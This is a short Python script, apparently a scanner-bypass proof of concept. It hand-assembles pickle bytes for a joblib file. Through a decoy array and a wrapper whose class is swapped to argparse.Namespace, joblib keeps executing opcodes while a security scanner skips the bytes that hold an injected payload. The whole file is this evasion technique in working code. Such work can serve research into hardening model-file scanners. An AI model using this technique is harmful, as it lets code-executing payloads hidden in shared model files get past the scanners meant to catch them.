from mk import *
# 1) a genuine array whose bytes derail the plain pass (a BINSTRING over the rest);
# 2) a second wrapper whose BUILD slotstate sets __class__ = argparse.Namespace: joblib's
#    isinstance check fails, no array is read, the opcodes go on; the scanner sees a
#    NumpyArrayWrapper BUILD and skips the next 30 bytes, which hold the payload.
N1=10
t = b'0'+PAYLOAD+b'.'
w2 = b'0'+wrapper6(len(t))+b'N}'+U('__class__')+G('argparse','Namespace')+b's\x86b'
after1 = w2 + t + b'.'
arr1 = b'T'+struct.pack('<i', N1-5+len(after1)-1)+b'\x00'*(N1-5)
hdr = b'\x80\x02'+wrapper6(N1)+b'}b'
check('x5.joblib', hdr+arr1+after1)
